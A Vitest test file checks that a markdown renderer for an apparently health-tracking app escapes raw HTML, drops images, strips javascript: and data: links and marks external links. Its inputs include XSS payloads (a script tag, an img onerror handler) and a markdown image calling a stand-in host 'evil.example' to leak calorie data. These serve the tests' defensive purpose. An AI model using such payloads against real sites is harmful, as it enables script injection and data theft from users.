import { describe, expect, it } from "vitest";

import { renderMarkdown } from "./markdown";

describe("renderMarkdown", () => {
  it("renders emphasis and lists", () => {
    const html = renderMarkdown("You slept **7 hours**.\n\n- water\n- protein");

    expect(html).toContain("<strong>7 hours</strong>");
    expect(html).toContain("<li>water</li>");
  });

  it("shows raw HTML as text", () => {
    const html = renderMarkdown('Hi <script>alert(1)</script><img src=x onerror="alert(2)">');

    expect(html).not.toContain("<script");
    expect(html).not.toContain("<img");
    expect(html).toContain("&lt;script&gt;");
  });

  it("drops markdown images", () => {
    const html = renderMarkdown("![chart](https://evil.example/leak?kcal=2400)");

    expect(html).not.toContain("<img");
    expect(html).not.toContain("evil.example");
    expect(html).toContain("chart");
  });

  it("removes javascript links", () => {
    const html = renderMarkdown("[click](javascript:alert(1)) and [data](data:text/html,hi)");

    expect(html).not.toContain("javascript:");
    expect(html).not.toContain("data:");
  });

  it("marks web links as external", () => {
    const html = renderMarkdown("[guide](https://example.com/sleep) and [today](/today)");

    expect(html).toContain(
      '<a href="https://example.com/sleep" rel="noopener noreferrer nofollow" target="_blank">guide</a>',
    );
    expect(html).toContain('<a href="/today" rel="noopener noreferrer nofollow">today</a>');
  });

  it("renders headings as paragraphs", () => {
    const html = renderMarkdown("# Summary\ntext");

    expect(html).not.toContain("<h1");
    expect(html).toContain("<p><strong>Summary</strong></p>");
  });

  it("keeps tables without attributes", () => {
    const html = renderMarkdown("| Day | kcal |\n| :-: | --: |\n| Mon | 2100 |");

    expect(html).toContain("<td>2100</td>");
    expect(html).not.toContain("align=");
  });
});
